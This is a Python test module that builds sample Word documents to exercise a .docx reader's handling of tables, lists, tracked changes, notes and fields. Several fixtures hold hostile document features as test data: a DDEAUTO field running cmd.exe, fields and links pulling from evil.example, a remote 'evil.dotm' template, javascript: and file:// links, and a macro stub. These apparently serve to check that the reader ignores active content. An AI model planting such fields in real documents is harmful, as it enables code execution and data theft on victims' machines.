"""Word documents that are written part by part, a row a document."""

from tests.readers.docx_files.parts import (
    HAN_HEAD,
    HAN_LEAD,
    HEAD,
    LEAD,
    W,
    begin,
    box,
    change,
    inline,
    item,
    num,
    p,
    package,
    png,
    r,
    shown,
    style,
    t,
    table,
    zipped,
)


def by_hand() -> dict[str, bytes]:
    """Return the documents that are written here, part by part."""
    picture = {"media/image1.png": ("image", png())}
    plain = style("a", "Normal", '<w:rPr><w:sz w:val="24"/></w:rPr>').replace(
        "<w:style ", '<w:style w:default="1" '
    )
    field = '<w:fldChar w:fldCharType="{}"/>'
    wps = style(
        "1", "heading 1", '<w:pPr><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:b/><w:sz w:val="44"/></w:rPr>'
    )
    return {
        "hand-nested-tables": package(
            begin()
            + table(
                (p("Hours"), p("Place")),
                (p("9 to 5"), table((p("North pier"), p("Gate 2"))) + p("by the lamp")),
                head=True,
            )
        ),
        "hand-merged-cells": package(
            begin()
            + table(
                ('<w:tcPr><w:gridSpan w:val="2"/></w:tcPr>' + p("Both halves"),),
                ('<w:tcPr><w:vMerge w:val="restart"/></w:tcPr>' + p("Left, twice"), p("Upper")),
                ("<w:tcPr><w:vMerge/></w:tcPr>" + p(), p("Lower")),
            )
        ),
        "hand-controls-in-table": package(
            begin()
            + "<w:tbl><w:tblPr/><w:sdt><w:sdtContent><w:tr><w:sdt><w:sdtContent><w:tc>"
            + p("Name in a control")
            + "</w:tc></w:sdtContent></w:sdt><w:tc>"
            + p(inside=f"<w:sdt><w:sdtContent>{t('Inline control')}</w:sdtContent></w:sdt>")
            + "</w:tc></w:tr></w:sdtContent></w:sdt></w:tbl>"
        ),
        "hand-text-boxes": package(
            begin()
            + p("The day in figures.", inside=r(box(p("300 visitors in a box") + p("120 books in a box"))))
            + p(
                inside=r(
                    f"<w:pict><v:shape><v:textbox><w:txbxContent>{p('An older box')}</w:txbxContent></v:textbox>"
                    "</v:shape></w:pict>"
                )
            )
        ),
        "hand-pictures": package(
            begin()
            + p(inside=r(inline("p1", "Shelves by the window")))
            + p("The shelves by the window. Photo by Lu Wen", extra='<w:jc w:val="center"/>')
            + p("After the first picture the text goes on for a sentence.")
            + p(inside=r('<w:pict><v:shape alt="The lamp"><v:imagedata r:id="p2"/></v:shape></w:pict>'))
            + p("The lamp at night", style="c")
            + p(inside=r(inline("far", "A picture elsewhere", "link")))
            + p(inside=r(inline("p3")))
            + p("The last words."),
            styles=style("c", "caption"),
            parts={
                **picture,
                "media/image2.png": ("image", png(9, 9)),
                "media/image3.emf": ("image", b"\1\0\0\0emf"),
            },
            links={"far": ("image", "https://example.com/far.png")},
        ),
        "hand-old-styles": package(
            p(HEAD, "t")
            + p(LEAD, "b")
            + p("What it holds", "h")
            + p("Five hundred books.", "b")
            + p("“A gift.”", "q"),
            styles=plain
            + style("t", "Title")
            + style("b", "Body Text", '<w:basedOn w:val="a"/>')
            + style("base", "Chapter", '<w:pPr><w:outlineLvl w:val="1"/></w:pPr>')
            + style("h", "My heading", '<w:basedOn w:val="base"/>')
            + style("q", "Intense Quote"),
        ),
        "hand-chinese-numbering": package(
            p(HAN_HEAD)
            + p(HAN_LEAD)
            + p("书屋概况", extra=item(1))
            + p("藏书情况", extra=item(1, 1))
            + p("藏书五千余册，涵盖文学、历史、少儿等门类。")
            + p("阅览环境", extra=item(1, 1))
            + p("书屋设座位六十个，全天供应热水，并配有老花镜。")
            + p("开放时间", extra=item(1))
            + p("周一至周五", extra=item(2))
            + p("周末全天", extra=item(2))
            + p("首条规定", extra=item(3)),
            numbering=num(1, [("chineseCountingThousand", "%1、"), ("chineseCountingThousand", "（%2）")])
            + num(2, [("decimal", "%1．")])
            + num(3, [("chineseCounting", "第%1条")]),
        ),
        "hand-lists": package(
            begin()
            + p("Bring a card", extra=item(1))
            + p("Bring a pen", extra=item(1))
            + p("A blue one", extra=item(1, 1))
            + p("Then:")
            + p("Sign", extra=item(2))
            + p("Read", extra=item(2))
            + p("A remark between.")
            + p("Return", extra=item(2))
            + p("Appendix part", extra=item(3)),
            numbering=num(1, [("bullet", "\uf0b7"), ("bullet", "o")])
            + num(2, [("decimal", "%1.")])
            + num(3, [("upperRoman", "%1)")]),
        ),
        "hand-tracked-changes": package(
            begin()
            + p(
                "It is ",
                inside=change("del", r("<w:delText>never </w:delText>"))
                + change("ins", t("always "))
                + t("free."),
            )
            + p(inside=change("moveFrom", t("A sentence on its way.")))
            + "<w:p><w:pPr><w:rPr>"
            + change("del", "")
            + "</w:rPr></w:pPr>"
            + t("Joined to")
            + "</w:p>"
            + p(" what follows it.")
            + p(inside=change("moveTo", t("A sentence on its way.")))
            + "<w:tbl><w:tblPr/><w:tr><w:tc>"
            + p("Stays")
            + "</w:tc></w:tr><w:tr><w:trPr>"
            + change("del", "")
            + "</w:trPr><w:tc>"
            + p("Goes")
            + "</w:tc></w:tr></w:tbl>"
        ),
        "hand-fields": package(
            begin()
            + p("Contents line", "toc")
            + p(
                "See ",
                inside=r(field.format("begin"))
                + r('<w:instrText> HYPERLINK "https://example.com/room" </w:instrText>')
                + r(field.format("separate"))
                + t("the room's page")
                + r(field.format("end"))
                + t(" for more."),
            )
            + p(
                "Printed on ",
                inside='<w:fldSimple w:instr="DATE">'
                + t("March 5, 2026")
                + "</w:fldSimple>"
                + t(" at the pier."),
            )
            + p(inside='<w:hyperlink r:id="bad">' + t("A link to run") + "</w:hyperlink>" + t(" is no link."))
            + p(inside='<w:hyperlink r:id="good">' + t("A link to follow") + "</w:hyperlink>"),
            styles=style("toc", "toc 1"),
            links={"bad": ("hyperlink", "file:///c:/run.exe"), "good": ("hyperlink", "https://example.com/")},
        ),
        "hand-signs": package(
            begin()
            + p(
                "Open ",
                inside=r('<w:sym w:font="Wingdings" w:char="F0FC"/>')
                + t(" and ")
                + r('<w:sym w:font="Nobody" w:char="F041"/>')
                + t("60 m")
                + '<w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr><w:t>2</w:t></w:r>',
            )
            + p(
                inside=r(
                    "<w:ruby><w:rubyPr/><w:rt>"
                    + t("shūwū")
                    + "</w:rt><w:rubyBase>"
                    + t("书屋")
                    + "</w:rubyBase></w:ruby>"
                )
                + t(" is its name.")
            )
            + p("By ", inside="<m:oMath><m:r><m:t>a+b=c</m:t></m:r></m:oMath>" + t(" it is."))
            + p(
                "Well",
                inside=r("<w:noBreakHyphen/><w:t>lit</w:t><w:tab/><w:t>room</w:t>")
                + r("<w:dayLong/>")
                + "<w:unheard>"
                + t("of this")
                + "</w:unheard>",
            )
            + p(
                "Seen",
                inside="<w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r>"
                + "<w:r><w:rPr><w:strike/></w:rPr><w:t> struck</w:t></w:r>"
                + '<w:r><w:rPr><w:em w:val="dot"/></w:rPr><w:t> dotted</w:t></w:r>',
            )
        ),
        "hand-notes": package(
            begin()
            + p(
                "A third came by boat",
                inside=r('<w:footnoteReference w:id="2"/>')
                + t(".")
                + r('<w:endnoteReference w:id="3"/>')
                + r('<w:footnoteReference w:id="9"/>')
                + r('<w:commentReference w:id="1"/>'),
            ),
            parts={
                "footnotes.xml": (
                    "footnotes",
                    f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="2">{p("Counted at the gate.")}'
                    "</w:footnote></w:footnotes>".encode(),
                ),
                "endnotes.xml": (
                    "endnotes",
                    f'<w:endnotes xmlns:w="{W}"><w:endnote w:id="3">{p("Harbor office.")}'
                    "</w:endnote></w:endnotes>".encode(),
                ),
                "comments.xml": (
                    "comments",
                    f'<w:comments xmlns:w="{W}"><w:comment w:id="1"/></w:comments>'.encode(),
                ),
            },
        ),
        "hand-page-breaks": package(
            begin()
            + p("Page one ends here.", inside=r('<w:br w:type="page"/>'))
            + p("Page two begins here.")
            + p("Page three begins here.", extra="<w:pageBreakBefore/>")
            + p("The last line.", inside=r('<w:br w:type="page"/>'))
        ),
        "hand-looks": package(
            p("新闻稿")
            + p(HAN_HEAD, look='<w:b/><w:sz w:val="44"/>', extra='<w:jc w:val="center"/>')
            + p(HAN_LEAD)
            + p("开放首日", look="<w:b/>")
            + p("首日共有三百余位居民到馆，借出图书一百二十册。")
            + p("今后安排", look='<w:sz w:val="32"/>', extra='<w:jc w:val="center"/>')
            + p("书屋每周六上午举办读书会，欢迎市民报名参加。", "s")
            + p(
                "另有", inside='<w:r><w:rPr><w:rStyle w:val="e"/></w:rPr><w:t>新书</w:t></w:r>' + t("上架。")
            ),
            styles=plain
            + style("s", "Lead", "<w:rPr><w:b/></w:rPr>")
            + style("e", "Strong", "<w:rPr><w:b/></w:rPr>", "character"),
        ),
        "hand-wps": package(
            p(HAN_HEAD, "1")
            + p("来源：云汀日报　2026年3月5日")
            + p(HAN_LEAD)
            + p("书屋由旧仓库改建而成。", extra='<w:ind w:firstLineChars="200"/>')
            + p("（记者 温澜）")
            + "<w:sectPr/>",
            styles=plain + wps,
        ),
        "hand-google-docs": package(
            p(HEAD, "Title", extra='<w:pageBreakBefore w:val="0"/>')
            + p("A room for everybody", "Subtitle")
            + p(
                inside='<w:r><w:rPr><w:rtl w:val="0"/></w:rPr><w:t xml:space="preserve">'
                + LEAD
                + "</w:t></w:r>"
            )
            + p("Hours", "Heading2")
            + p("Nine to five", extra=item(1))
            + p(
                inside='<w:hyperlink r:id="l"><w:r><w:rPr><w:color w:val="1155cc"/><w:u w:val="single"/></w:rPr>'
                "<w:t>Book a seat</w:t></w:r></w:hyperlink>"
            ),
            styles=style("Title", "Title") + style("Subtitle", "Subtitle") + style("Heading2", "heading 2"),
            numbering=num(1, [("bullet", "●")]),
            links={"l": ("hyperlink", "https://example.com/seat")},
        ),
        "hand-soft-lines": package(
            p(inside=r("<w:t>云汀市社区书屋</w:t><w:br/><w:t>正式开放</w:t>"))
            + p(
                inside=r(
                    f"<w:t>{HAN_LEAD}</w:t><w:br/><w:br/><w:t>　　第二段说的是书屋的来历和改建经过。</w:t>"
                )
            )
        ),
        "hand-letterhead": package(
            p(inside=r(inline("p1", "Harbor sign")))
            + p("FOR IMMEDIATE RELEASE")
            + table((p(HEAD),))
            + p(LEAD),
            parts=picture,
        ),
        "hand-strict": package(
            begin() + p("Strict, and bold", look='<w:b w:val="true"/>') + p("The end of it."), strict=True
        ),
        "hand-macros": package(begin(), loose={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "hand-remote": package(
            begin() + '<w:altChunk r:id="p1"/>' + p("After the chunk."),
            parts={
                "chunk.html": ("aFChunk", b"<script>1</script>"),
                "settings.xml": ("settings", f'<w:settings xmlns:w="{W}"/>'.encode()),
            },
            loose={
                "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="t" Type="x/attachedTemplate" Target="https://example.com/evil.dotm" '
                b'TargetMode="External"/></Relationships>'
            },
        ),
        "hand-objects": package(
            begin()
            + p(
                "A sheet: ",
                inside=r('<w:object><v:shape><v:imagedata r:id="p1"/></v:shape><o:OLEObject/></w:object>')
                + t(" here."),
            )
            + p(
                inside=r(
                    '<w:drawing><wp:inline><wp:docPr id="3" name="C" descr="Visits by month"/><a:graphic>'
                    '<a:graphicData><c:chart r:id="x"/></a:graphicData></a:graphic></wp:inline></w:drawing>'
                )
            ),
            parts=picture,
        ),
        "hand-fields-that-run": package(
            begin()
            + p("Now: ", inside=shown("DDEAUTO c:\\\\windows\\\\cmd.exe", "noon"))
            + p("And: ", inside=shown('INCLUDETEXT "file:///etc/hostname"', "two o’clock"))
            + p("Seen: ", inside=shown('INCLUDEPICTURE "http://evil.example/x.png" \\d', "a picture"))
            + p(inside=f'<w:fldSimple w:instr="MACROBUTTON Run press">{t("Press here")}</w:fldSimple>')
        ),
        "hand-links-outside": package(
            begin()
            + p("A wall: ", inside=r(inline("web", "A wall", "link")) + t("painted blue."))
            + p(inside=r('<w:pict><v:shape><v:imagedata r:id="share" o:href="x"/></v:shape></w:pict>'))
            + p(inside=f'<w:hyperlink r:id="script">{t("Press this")}</w:hyperlink>')
            + p(inside=f'<w:hyperlink r:id="file">{t("or that")}</w:hyperlink>')
            + p(inside=r('<w:object><o:OLEObject Type="Link" r:id="sheet"/></w:object>') + t("a sheet"))
            + p(inside=r('<w:control r:id="control"/>') + t("a button"))
            + '<w:subDoc r:id="rest"/>'
            + p("The last line."),
            links={
                "web": ("image", "http://evil.example/x.png"),
                "share": ("image", "file://evil.example/share/x.png"),
                "script": ("hyperlink", "javascript:alert(1)"),
                "file": ("hyperlink", "file:///etc/hostname"),
                "sheet": ("oleObject", "http://evil.example/x.xls"),
                "control": ("control", "http://evil.example/x.ocx"),
                "rest": ("subDocument", "http://evil.example/x.docx"),
            },
        ),
        "hand-broken-styles": package(
            begin() + p("Still read.", "none"),
            parts={"styles.xml": ("styles", b"<w:styles"), "gone.xml": ("numbering", b"<a/>")},
        ),
        "hand-broken-text": package(begin() + "<w:p>"),
        "hand-no-word": zipped({"mimetype": b"text/plain"}),
    }
